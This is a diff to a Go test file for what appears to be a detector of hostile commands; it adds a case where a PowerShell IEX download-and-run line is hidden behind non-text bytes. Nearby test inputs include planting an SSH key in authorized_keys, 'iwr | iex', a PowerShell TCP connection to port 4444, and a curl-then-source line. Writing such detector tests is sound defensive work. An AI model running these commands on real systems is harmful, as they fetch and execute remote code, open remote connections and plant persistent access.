@@ -48,6 +48,7 @@ func TestJudge(t *testing.T) {
 		{name: "a key", text: "echo ssh-ed25519 AAAA >> ~/.ssh/authorized_keys", want: "shell ~/.ssh/authorized_keys"},
 
 		{name: "PowerShell", text: "IEX (New-Object Net.WebClient).DownloadString('" + url + "')", want: "PowerShell IEX"},
+		{name: "PowerShell behind bytes that are no text", text: "\xff\xff\xff IEX (New-Object Net.WebClient).DownloadString('" + url + "')", want: "PowerShell IEX"},
 		{name: "PowerShell in a pipe", text: "iwr -UseBasicParsing " + url + " | iex", want: "PowerShell iex"},
 		{name: "PowerShell that connects", text: "$c = New-Object System.Net.Sockets.TCPClient('192.0.2.1', 4444)", want: "PowerShell TCPClient"},
 		{name: "sourced", text: "curl -o env.sh " + url + "; . ./env.sh", want: "shell ."},
